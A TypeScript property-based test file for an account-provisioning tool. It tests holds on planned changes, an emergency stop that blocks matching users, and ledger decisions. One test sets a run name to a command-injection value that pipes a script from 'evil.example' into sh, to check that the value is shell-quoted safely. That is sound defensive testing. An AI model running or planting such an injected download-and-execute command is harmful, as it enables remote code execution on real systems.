// A person's word in the core: what a hold covers and nothing else, the emergency stop before caps and holds, decisions as changes of the ledger.
import fc from 'fast-check'
import * as assert from 'uvu/assert'
import { fullMessage } from '../../../src/domain/basics/command.ts'
import {
  type Hold,
  type HoldWhat,
  heldBy,
  heldSaid,
  holding,
  holdOptions,
  isStop,
  LONGEST_HOLD,
  stopOf,
} from '../../../src/domain/decisions/hold.ts'
import { capsOf } from '../../../src/domain/guards/caps.ts'
import { type Decision, decided, decisionNote, decisionText, isMeant } from '../../../src/domain/memory/decision.ts'
import { emptyLedger, type Ledger } from '../../../src/domain/memory/ledger.ts'
import type { Cause, Change, Held, Plan } from '../../../src/domain/plan/plan.ts'
import { makePlan, type PlanFacts } from '../../../src/domain/planning/planning.ts'
import type { Policy } from '../../../src/domain/wanted/desired.ts'
import { E } from '../../../src/fp.ts'
import { change, DAY, HOUR, ledger, memory, NOW } from '../../support/build.ts'
import { factsOf, run, type World, worlds } from '../../support/model.ts'
import { spec } from '../../support/spec.ts'

const anyWorld = worlds(emptyLedger('key'))

const doubted = { names: ['a'], origin: 'o' }

const GLOBS = ['*', '*@acme.example', 'ALPHA@*', 'delta', '?mega', 'to*', 'nobody-*'] as const
/** What the globs match, said in another way. */
const MATCHES: { readonly [G in (typeof GLOBS)[number]]: (name: string) => boolean } = {
  '*': () => true,
  '*@acme.example': (name) => name.endsWith('@acme.example'),
  'ALPHA@*': (name) => name === 'alpha@acme.example',
  delta: (name) => name === 'delta',
  '?mega': (name) => name === 'omega',
  'to*': (name) => name === 'toString',
  'nobody-*': () => false,
}
const isMatch = (text: string, name: string): boolean => GLOBS.some((glob) => glob === text && MATCHES[glob](name))

const hold = (what: HoldWhat, until = NOW + HOUR): Hold => ({ what, since: NOW - HOUR, until, reason: 'because', by: 'me' })
const someGlob = fc.constantFrom(...GLOBS)
const plainWhats: fc.Arbitrary<HoldWhat> = fc.oneof(
  someGlob.map((glob): HoldWhat => ({ _tag: 'Users', glob })),
  fc.constant<HoldWhat>({ _tag: 'Removals' }),
  fc.constant<HoldWhat>({ _tag: 'All' }),
)
const plainHolds = fc.array(
  plainWhats.map((what) => hold(what)),
  { maxLength: 3 },
)
const whats = fc.oneof(
  plainWhats,
  someGlob.map((glob): HoldWhat => ({ _tag: 'Stop', glob })),
)
const ended = fc.tuple(whats, fc.integer({ min: 0, max: 90 * DAY })).map(([what, ago]) => hold(what, NOW - ago))

const covers = ({ what }: Hold, change: Change): boolean => {
  switch (what._tag) {
    case 'Users':
    case 'Stop':
      return isMatch(what.glob, change.username)
    case 'Removals':
      return change.change === 'remove'
    case 'All':
      return true
    case 'Undo':
      return what.users.includes(change.username)
  }
}

const planned = (plan: Plan) => plan.scopes.flatMap((scope) => (scope._tag === 'Planned' ? [scope] : []))
const withHolds = (world: World, holds: ReadonlyArray<Hold>): World => ({
  ...world,
  remembered: { ...world.remembered, holds },
})
const withPolicy = (world: World, some: Partial<Policy>): World => ({
  ...world,
  state: { ...world.state, policy: { ...world.state.policy, ...some } },
})
const planOf = (world: World, some: Partial<PlanFacts> = {}): Plan => makePlan(factsOf(world, some)).plan
const person: Partial<PlanFacts> = { person: true }

spec('holds', (test) => {
  test('every change that a hold covers is held, no other is, and nothing is dropped', () =>
    fc.assert(
      fc.property(anyWorld, plainHolds, (world, holds) => {
        const free = planned(planOf(world, person))
        const bound = planned(planOf(withHolds(world, holds), person))
        for (const [at, before] of free.entries()) {
          const after = bound[at]
          const isCovered = (change: Change): boolean => holds.some((one) => covers(one, change))
          assert.equal(
            after?.changes,
            before.changes.filter((change) => !isCovered(change)),
          )
          const onHold = after?.held.filter(({ reason }) => reason === 'on_hold') ?? []
          assert.equal(
            onHold.map(({ username }) => username),
            before.changes.filter(isCovered).map(({ username }) => username),
          )
          assert.equal(after?.held.filter(({ reason }) => reason !== 'on_hold') ?? [], before.held)
        }
      }),
    ))

  test('a digest, its approval and a person lift no hold', () =>
    fc.assert(
      fc.property(anyWorld, plainHolds, (world, holds) => {
        const bound = withHolds(world, holds)
        const { digest } = planOf(bound, person)
        const isHeld = (plan: Plan) => planned(plan).flatMap(({ held }) => held.filter(({ reason }) => reason === 'on_hold'))
        const before = isHeld(planOf(bound, person)).length
        assert.is(isHeld(planOf(bound, { ...person, digest })).length, before)
      }),
    ))

  test('a hold that has ended, stop or not, changes nothing', () =>
    fc.assert(
      fc.property(anyWorld, fc.array(ended, { maxLength: 4 }), (world, holds) => {
        assert.equal(planOf(withHolds(world, holds), person), planOf(world, person))
      }),
    ))

  test('a run forgets holds that ended a day ago or longer, and keeps the others', () => {
    const [over, lately] = [hold({ _tag: 'All' }, NOW - DAY), hold({ _tag: 'All' }, NOW)]
    const going = hold({ _tag: 'Users', glob: 'nobody-*' })
    fc.assert(
      fc.property(anyWorld, (world) => {
        const after = run(withHolds(world, [over, lately, going]), person).world.remembered
        assert.equal(after.holds, [lately, going])
      }),
    )
  })
})

spec('the emergency stop', (test) => {
  const stop = (glob: string): Hold => hold({ _tag: 'Stop', glob })
  const openIn = (world: World, scope: string, glob: string): ReadonlyArray<string> =>
    [...world.truth]
      .filter(([one]) => one === scope)
      .flatMap(([, users]) => [...users])
      .filter(([name, settings]) => isMatch(glob, name) && settings.status !== 'blocked')
      .map(([name]) => name)
      .sort()
  const isBlock = (change: Change): boolean =>
    change.change === 'block' && change.fields.length === 1 && change.fields[0]?.to === 'blocked'
  const none = { percent: undefined, count: 0 }
  const shut: Policy['caps'] = {
    max_creates: none,
    max_updates: none,
    max_password_changes: none,
    max_blocks: none,
    max_removes: none,
  }

  test('blocks all that match and are open, in every scope, before holds, caps and a missing memory; of them it lets nothing else through', () =>
    fc.assert(
      fc.property(anyWorld, someGlob, plainHolds, fc.boolean(), (world, glob, others, isPerson) => {
        const stopped = withPolicy(withHolds(world, [...others, stop(glob)]), { caps: shut })
        for (const { scope, changes } of planned(planOf(stopped, { person: isPerson }))) {
          const ours = changes.filter(({ username }) => isMatch(glob, username))
          assert.ok(ours.every(isBlock))
          assert.equal(
            ours.map(({ username }) => username),
            openIn(world, scope, glob),
          )
          assert.equal(
            changes.filter((one) => !ours.includes(one) && capsOf(one).length > 0),
            [],
            'the caps of the others stand',
          )
          const names = changes.map(({ username }) => username)
          assert.is(new Set(names).size, names.length, 'one change a user')
        }
      }),
    ))

  test('leaves everyone else alone', () =>
    fc.assert(
      fc.property(anyWorld, someGlob, (world, glob) => {
        const others = (plan: Plan) =>
          planned(plan).map(({ changes, held }) => [...changes, ...held].filter(({ username }) => !isMatch(glob, username)))
        assert.equal(others(planOf(withHolds(world, [stop(glob)]), person)), others(planOf(world, person)))
      }),
    ))

  test('applied, it leaves nobody of them open, and the next run has nothing to do for them', () =>
    fc.assert(
      fc.property(anyWorld, someGlob, (world, glob) => {
        const after = run(withHolds(world, [stop(glob)])).world
        for (const { scope } of after.state.scopes) assert.equal(openIn(after, scope, glob), [])
        const again = planned(planOf(after, { ...person, now: NOW + HOUR - 1 })).flatMap(({ changes }) => changes)
        assert.equal(
          again.filter(({ username }) => isMatch(glob, username)),
          [],
        )
      }),
    ))

  test('goes over neither protection nor observe mode', () =>
    fc.assert(
      fc.property(anyWorld, fc.boolean(), (world, isObserving) => {
        const all = { text: '*', matches: () => true }
        const some: Partial<Policy> = isObserving ? { mode: 'observe' } : { protected: [all] }
        const reason: Held['reason'] = isObserving ? 'observe_mode' : 'protected'
        for (const { scope, changes, held } of planned(planOf(withPolicy(withHolds(world, [stop('*')]), some), person))) {
          assert.equal(changes.filter(isBlock), [])
          assert.equal(
            held.filter((one) => isBlock(one) && one.reason === reason).map(({ username }) => username),
            openIn(world, scope, '*'),
          )
        }
      }),
    ))
})

spec('a hold in words', (test) => {
  const undo: HoldWhat = { _tag: 'Undo', run: 'run-1', users: ['delta'] }
  const until = '2026-01-06T13:00:00.000Z'
  const holdFor = (what: HoldWhat): Decision => ({ _tag: 'Hold', what, until: NOW + HOUR })
  for (const [what, options] of [
    [{ _tag: 'Users', glob: 'to*' }, "--user 'to*'"],
    [{ _tag: 'Removals' }, '--removals'],
    [{ _tag: 'All' }, '--all'],
    [{ _tag: 'Stop', glob: '*' }, "--match '*'"],
    [undo, '--undo run-1'],
  ] as const)
    test(`${options}: said in words and as data, and named by it`, () => {
      const begins = what._tag === 'Undo' ? `undo run-1, its users on hold until ${until}` : `hold ${options} until ${until}`
      const name = what._tag === 'Undo' ? { _tag: 'Undo', run: 'run-1' } : what
      assert.is(decisionText(holdFor(what)), begins)
      assert.equal(decisionNote(holdFor(what)), { _tag: 'Hold', what: name, until })
      const release: Decision = { _tag: 'Release', what, every: false }
      assert.is(decisionText(release), `release ${options}`)
      assert.equal(decisionNote(release), { _tag: 'Release', what: name })
      assert.ok(isMeant(what, what))
      const kind = what._tag === 'Stop' ? 'stopped' : 'on hold'
      assert.is(fullMessage(heldSaid(hold(what))), `${kind} until ${until} by me: because; to end it: release ${options}`)
    })

  test('is a command that a shell takes, and in the journal the pattern as it is', () => {
    const what: HoldWhat = { _tag: 'Users', glob: "o'brien@*" }
    assert.is(holdOptions(what), "--user 'o'brien@*'")
    assert.match(fullMessage(heldSaid(hold(what))), `; to end it: release --user 'o'\\''brien@*'`)
  })

  for (const [decision, words, note] of [
    [{ _tag: 'Release', what: undefined, every: true }, 'release --every', { _tag: 'Release' }],
    [{ _tag: 'Release', what: undefined, every: false }, 'release', { _tag: 'Release' }],
    [{ _tag: 'Unprotect', glob: 'boss@*' }, "release --protected 'boss@*'", { _tag: 'Unprotect', glob: 'boss@*' }],
    [{ _tag: 'Vouch', scope: 'account' }, 'approve --live account', { _tag: 'Vouch', scope: 'account' }],
    [{ _tag: 'Approve', digest: 'sha256:0', changes: ['x'] }, 'approve sha256:0', { _tag: 'Approve', digest: 'sha256:0' }],
  ] as const)
    test(`${words}: said in words and as data`, () => {
      assert.is(decisionText(decision), words)
      assert.equal(decisionNote(decision), note)
    })

  test('a run is quoted as well, whatever somebody had kept as one', () => {
    const what: HoldWhat = { _tag: 'Undo', run: "x; curl 'evil.example'|sh", users: [] }
    const ending = "; to end it: release --undo 'x; curl '\\''evil.example'\\''|sh'"
    assert.ok(fullMessage(heldSaid(hold(what))).endsWith(ending))
  })

  test('only the run of an undo may be named by its beginning', () => {
    const run = (name: string): HoldWhat => ({ _tag: 'Undo', run: name, users: [] })
    assert.ok(isMeant(run('run-1'), run('run')))
    assert.not(isMeant(run('run'), run('run-1')))
    assert.not(isMeant({ _tag: 'Users', glob: 'abc' }, { _tag: 'Users', glob: 'ab' }))
    assert.not(isMeant({ _tag: 'All' }, { _tag: 'Removals' }))
    assert.not(isMeant({ _tag: 'Users', glob: 'a' }, { _tag: 'Stop', glob: 'a' }))
  })

  test('an undo keeps the config from its users, and neither the next undo nor anybody else', () => {
    const holds = [hold(undo)]
    const of = (username: string, some: { readonly cause?: Cause } = {}) => heldBy(holds, NOW, change('update', username, some))
    assert.is(of('delta'), holds[0])
    assert.is(of('delta', { cause: 'undo' }), undefined)
    assert.is(of('omega'), undefined)
  })

  test('a hold of removals keeps hands off nothing else, one of all off everything, and one of users off those it names', () => {
    const [update, remove] = [change('update', 'delta'), change('remove', 'delta')]
    const held = (what: HoldWhat, one: Change): boolean => heldBy([hold(what)], NOW, one) !== undefined
    assert.equal([held({ _tag: 'Removals' }, update), held({ _tag: 'Removals' }, remove)], [false, true])
    assert.equal([held({ _tag: 'All' }, update), held({ _tag: 'All' }, remove)], [true, true])
    assert.equal([held({ _tag: 'Users', glob: 'to*' }, update), held({ _tag: 'Users', glob: 'D*' }, update)], [false, true])
    assert.not(held({ _tag: 'Users', glob: '' }, update), 'no pattern at all')
  })

  test('a hold is in force until its end, and not at it', () => {
    assert.is(holding([hold({ _tag: 'All' }, NOW + 1)], NOW).length, 1)
    assert.is(holding([hold({ _tag: 'All' }, NOW)], NOW).length, 0)
  })

  test('what a stop asks for is a block of status alone, of a user that it matches, while it lasts', () => {
    const holds = [hold({ _tag: 'Users', glob: '*' }), hold({ _tag: 'Stop', glob: 'to*' })]
    const [field] = change('block', 'toString').fields
    if (field === undefined) throw new Error('a field')
    const rows: ReadonlyArray<readonly [Change, boolean]> = [
      [change('block', 'toString'), true],
      [change('block', 'delta'), false],
      [change('update', 'toString', { fields: [field] }), false],
      [change('block', 'toString', { fields: [{ ...field, to: 'sandbox' }] }), false],
      [change('block', 'toString', { fields: [{ ...field, field: 'description' }] }), false],
      [change('block', 'toString', { fields: [field, { ...field, field: 'description' }] }), false],
    ]
    for (const [one, expected] of rows) {
      assert.is(isStop(holds, NOW, one), expected, JSON.stringify(one))
      assert.is(heldBy(holds, NOW, one), expected ? undefined : holds[0])
    }
    assert.is(stopOf(holds, NOW, 'toString'), holds[1])
    assert.is(stopOf(holds, NOW, 'delta'), undefined)
    assert.is(stopOf(holds, NOW + HOUR, 'toString'), undefined)
    assert.not(isStop(holds, NOW + HOUR, change('block', 'toString')))
  })
})

spec('decisions', (test) => {
  const who = { by: 'me', reason: 'because', now: NOW }
  const take = (before: Ledger, decision: Decision): E.Either<string, Ledger> => decided(before, decision, who)
  const taken = (before: Ledger, decision: Decision): Ledger => {
    const after = take(before, decision)
    if (E.isLeft(after)) throw new Error(after.left)
    return after.right
  }
  const empty = emptyLedger('key')
  const holdFor = (what: HoldWhat, ms: number): Decision => ({ _tag: 'Hold', what, until: NOW + ms })
  const names = (one: Ledger): ReadonlyArray<string> => one.holds.map(({ what }) => holdOptions(what)).sort()

  test('a hold always ends: in the future, and after 30 days at the most', () => {
    for (const ms of [1, HOUR, LONGEST_HOLD]) assert.is(taken(empty, holdFor({ _tag: 'All' }, ms)).holds[0]?.until, NOW + ms)
    for (const ms of [0, -1, Number.NaN, Number.NEGATIVE_INFINITY, LONGEST_HOLD + 1, Number.POSITIVE_INFINITY])
      assert.ok(E.isLeft(take(empty, holdFor({ _tag: 'All' }, ms))), String(ms))
  })

  test('any series of holds leaves one of each kind, the last one said; each is ended by its own name and by no other', () =>
    fc.assert(
      fc.property(
        fc.array(fc.tuple(whats, fc.integer({ min: 1, max: LONGEST_HOLD })), { minLength: 1, maxLength: 8 }),
        (said) => {
          const after = said.reduce((sum, [what, ms]) => taken(sum, holdFor(what, ms)), empty)
          const last = new Map(said.map(([what, ms]) => [holdOptions(what), NOW + ms]))
          assert.equal(new Map(after.holds.map(({ what, until }) => [holdOptions(what), until])), last)
          for (const { what } of after.holds) {
            const released = taken(after, { _tag: 'Release', what, every: false })
            assert.equal(
              names(released),
              names(after).filter((name) => name !== holdOptions(what)),
            )
            assert.ok(E.isLeft(take(released, { _tag: 'Release', what, every: false })))
          }
          assert.equal(taken(after, { _tag: 'Release', what: undefined, every: true }).holds, [])
          assert.is(E.isRight(take(after, { _tag: 'Release', what: undefined, every: false })), after.holds.length === 1)
        },
      ),
    ))

  test('each touches its own part of the ledger and no other', () => {
    const before = ledger([['account', memory({ protected: ['boss@acme.example', 'delta'], lastSeen: ['delta'], doubted })]], {
      holds: [hold({ _tag: 'All' })],
    })
    const others = ({ holds: _h, approvals: _a, believed: _b, scopes: _s, ...rest }: Ledger) => rest
    for (const [decision, part] of [
      [holdFor({ _tag: 'Removals' }, HOUR), 'holds'],
      [{ _tag: 'Release', what: undefined, every: false }, 'holds'],
      [{ _tag: 'Vouch', scope: 'account' }, 'believed'],
      [{ _tag: 'Approve', digest: 'sha256:0', changes: ['x'] }, 'approvals'],
      [{ _tag: 'Unprotect', glob: 'BOSS@*' }, 'scopes'],
    ] as const) {
      const after = taken(before, decision)
      assert.equal(others(after), others(before))
      for (const one of ['holds', 'approvals', 'believed', 'scopes'] as const)
        if (one !== part) assert.equal(after[one], before[one], `${decision._tag} ${one}`)
      assert.not.equal(after[part], before[part])
    }
    const unprotected = taken(before, { _tag: 'Unprotect', glob: 'BOSS@*' }).scopes.get('account')
    assert.equal(unprotected, memory({ protected: ['delta'], lastSeen: ['delta'], doubted }))
    for (const glob of ['alpha@*', ''])
      assert.equal(
        take(before, { _tag: 'Unprotect', glob }),
        E.left(`no such protection: nobody that '${glob}' matches is remembered as protected`),
      )
  })

  test('an approval and a vouched answer last for an hour, and approvals that have ended go', () => {
    const spent = { changes: ['old'], until: NOW, reason: '', by: 'me' }
    const going = { ...spent, until: NOW + 1 }
    const after = taken({ ...empty, approvals: [spent, going] }, { _tag: 'Approve', digest: 'sha256:0', changes: ['x'] })
    assert.equal(after.approvals, [going, { changes: ['x'], until: NOW + HOUR, reason: 'because', by: 'me' }])
    const seen = ledger([['account', memory({ doubted })]])
    assert.equal(taken(seen, { _tag: 'Vouch', scope: 'account' }).believed.get('account'), { ...doubted, until: NOW + HOUR })
  })

  test('S3: a word on a live answer is refused where none is doubted', () =>
    assert.equal(
      take(ledger([['account', memory({ lastSeen: ['a'] })]]), { _tag: 'Vouch', scope: 'account' }),
      E.left(
        'nothing waits for that: what was seen last of account was believed; if that has changed, a daemon has to see it first: reconcile',
      ),
    ))

  test('a vouched answer is of a scope that was seen: a misspelt one is refused with the names of those', () => {
    assert.equal(take(empty, { _tag: 'Vouch', scope: 'account' }), E.left('nothing is known of account; no scope was seen yet'))
    const seen = ledger([
      ['subaccount:B', memory()],
      ['account', memory()],
    ])
    assert.equal(
      take(seen, { _tag: 'Vouch', scope: 'subaccount:b' }),
      E.left('nothing is known of subaccount:b; there is account, subaccount:B'),
    )
  })

  test('a hold is refused, and a release, in words that say what to do', () => {
    const said = (decision: Decision, before = empty): string => {
      const after = take(before, decision)
      return E.isLeft(after) ? after.left : 'taken'
    }
    assert.is(
      said(holdFor({ _tag: 'All' }, 0)),
      'a hold ends in the future: --until takes a time to come, or a duration such as 2h',
    )
    assert.is(said(holdFor({ _tag: 'All' }, LONGEST_HOLD + 1)), 'a hold lasts 30 days at the most, so that it is not forgotten')
    const release = (what: HoldWhat | undefined, every = false): Decision => ({ _tag: 'Release', what, every })
    assert.is(said(release(undefined)), 'nothing is on hold')
    assert.is(said(release({ _tag: 'All' })), 'no such hold; there is none')
    const both = { ...empty, holds: [hold({ _tag: 'Removals' }), hold({ _tag: 'Users', glob: 'to*' })] }
    assert.is(said(release({ _tag: 'All' }), both), "no such hold; there is release --removals, release --user 'to*'")
    assert.is(said(release(undefined), both), "which one? There is release --removals, release --user 'to*'; or release --every")
    assert.is(said(release(undefined, true), both), 'taken')
  })

  test('an undo is released by the beginning of its run, and by no other name', () => {
    const undo = (run: string): HoldWhat => ({ _tag: 'Undo', run, users: [] })
    const before = { ...empty, holds: [hold(undo('run-12')), hold(undo('run-2')), hold({ _tag: 'All' })] }
    const left = (what: HoldWhat): ReadonlyArray<string> => {
      const after = take(before, { _tag: 'Release', what, every: false })
      return E.isLeft(after) ? [] : names(after.right)
    }
    assert.equal(left(undo('run-1')), ['--all', '--undo run-2'])
    assert.equal(left(undo('run')), [], 'two of them')
    assert.equal(left(undo('un-12')), [], 'none')
    assert.equal(left({ _tag: 'All' }), ['--undo run-12', '--undo run-2'])
  })

  test('a hold said again leaves one that has ended, so that its end is still told', () => {
    const over = hold({ _tag: 'All' }, NOW)
    const after = taken({ ...empty, holds: [over, hold({ _tag: 'All' }, NOW + 1)] }, holdFor({ _tag: 'All' }, HOUR))
    assert.equal(
      after.holds.map(({ until }) => until - NOW),
      [0, HOUR],
    )
    const released = taken({ ...empty, holds: [over, hold({ _tag: 'All' }, NOW + 1)] }, { _tag: 'Release', every: false })
    assert.equal(released.holds, [over])
  })
})
